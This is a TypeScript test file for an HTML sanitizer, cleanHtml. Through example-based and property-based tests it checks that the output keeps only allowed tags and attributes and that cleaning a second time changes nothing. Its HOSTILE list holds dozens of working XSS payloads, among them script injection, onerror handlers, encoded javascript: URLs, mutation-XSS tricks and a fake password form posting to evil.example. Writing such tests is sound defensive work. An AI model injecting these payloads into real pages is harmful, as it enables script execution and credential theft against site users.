import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { cleanHtml } from './clean-html.ts';

/** What may be left of anything whatever: these tags, with these attributes, and nothing that runs. */
const TAGS =
  /<\/?(?!(?:h3|h4|p|br|hr|strong|em|u|s|blockquote|ul|ol|li|a|img|figure|figcaption|table|thead|tbody|tr|th|td)\b)[a-z]/i;
const ATTRIBUTES =
  /<[a-z0-9]+[^>]*\s(?!(?:href|src|alt|width|height|start|scope|colspan|rowspan)=)[a-z-]+\s*=/i;
const harmless = (html: string) => {
  expect(html).not.toMatch(TAGS);
  // Every value is quoted, and may say whatever it likes inside its quotes.
  expect(html.replaceAll(/"[^"]*"/g, '""')).not.toMatch(ATTRIBUTES);
  expect(html).not.toMatch(/<[^>]*="\s*(?:javascript|vbscript|data)\s*:/i);
};

/** What people have tried on other sites, and a few of our own. */
const HOSTILE = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img src="/art/fair-480.webp" onload="alert(1)">',
  '<img src="https://evil.example/pixel.gif">',
  '<img src="//evil.example/pixel-480.webp">',
  '<img src="/art/../x-480.webp">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href="&#106;&#97;vascript:alert(1)">x</a>',
  '<a href="&#x6A;avascript&colon;alert(1)">x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="//evil.example">x</a>',
  '<a href="http://evil.example">x</a>',
  '<a href="#" onclick="alert(1)" style="position:fixed;inset:0">x</a>',
  '<svg onload=alert(1)><script>alert(1)</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="x.swf"></object><embed src="x.swf">',
  '<form action="https://evil.example"><input name=password><button>go</button></form>',
  '<style>@import "https://evil.example/x.css"; body{display:none}</style>',
  '<link rel=stylesheet href=https://evil.example/x.css>',
  '<meta http-equiv=refresh content="0;url=https://evil.example">',
  '<base href="https://evil.example/">',
  '<p style="background:url(javascript:alert(1))">x</p>',
  '<p id="root" class="fixed" data-session="in" contenteditable>x</p>',
  '<template><script>alert(1)</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<textarea><img src=x onerror=alert(1)></textarea>',
  '<title><img src=x onerror=alert(1)></title>',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?xml version="1.0"?><p>x</p>',
  '<details open ontoggle=alert(1)>x</details>',
  '<video><source onerror="alert(1)"></video>',
  '<b onmouseover=alert(1)>x</b>',
  '<p><<script>alert(1)</script>',
  '<a href="https://ok.example" target="_top" ping="https://evil.example" download>x</a>',
  '<td background="javascript:alert(1)">x',
  '<isindex type=image src=1 onerror=alert(1)>',
  'x'.repeat(2000) + '<script '.repeat(200),
  '<div>'.repeat(500) + 'deep' + '</div>'.repeat(500),
];

test.each(HOSTILE.map((html) => [html.slice(0, 60), html] as const))(
  'nothing runs, loads or covers the page: %s',
  (_name, html) => {
    const clean = cleanHtml(html);
    harmless(clean);
    expect(clean).not.toMatch(/alert\(1\)(?![^<]*$)|evil\.example/);
    expect(cleanHtml(clean)).toBe(clean);
  },
);

test('whatever is sent, what is left is harmless, and cleaning it again changes nothing', () => {
  const piece = fc.oneof(
    fc.constantFrom(...HOSTILE),
    fc.constantFrom(
      '<',
      '>',
      '"',
      "'",
      '&',
      '<p>',
      '</p>',
      '<a href=',
      '<img src=',
      'on',
      '=',
      '/*',
      '-->',
      '<!--',
      '\0',
    ),
    fc.string({ maxLength: 12 }),
  );
  fc.assert(
    fc.property(fc.array(piece, { maxLength: 12 }), (pieces) => {
      const clean = cleanHtml(pieces.join(''));
      harmless(clean);
      expect(cleanHtml(clean)).toBe(clean);
    }),
    { numRuns: 300 },
  );
});

describe('what belongs in a text', () => {
  test.each([
    ['<p>এক <strong>দুই</strong> <em>তিন</em></p>'],
    ['<h3>Title</h3><ul><li>one</li></ul><ol start="3"><li>two</li></ol>'],
    [
      '<p><a href="/promotions#x">here</a> <a href="https://ok.example/a?b=c">there</a> <a href="mailto:a@b.example">us</a></p>',
    ],
    [
      '<figure><img src="/pictures/0a1b-768.webp" alt="A fair" width="768" height="384" /><figcaption>x</figcaption></figure>',
    ],
    [
      '<table><thead><tr><th scope="col">a</th></tr></thead><tbody><tr><td colspan="2">b</td></tr></tbody></table>',
    ],
  ])('stays as it is: %s', (html) => expect(cleanHtml(html)).toBe(html));

  test('headings of a page become headings inside it, and old-fashioned marks today’s', () =>
    expect(cleanHtml('<h1>a</h1><h6>b</h6><b>c</b><i>d</i>')).toBe(
      '<h3>a</h3><h4>b</h4><strong>c</strong><em>d</em>',
    ));
});
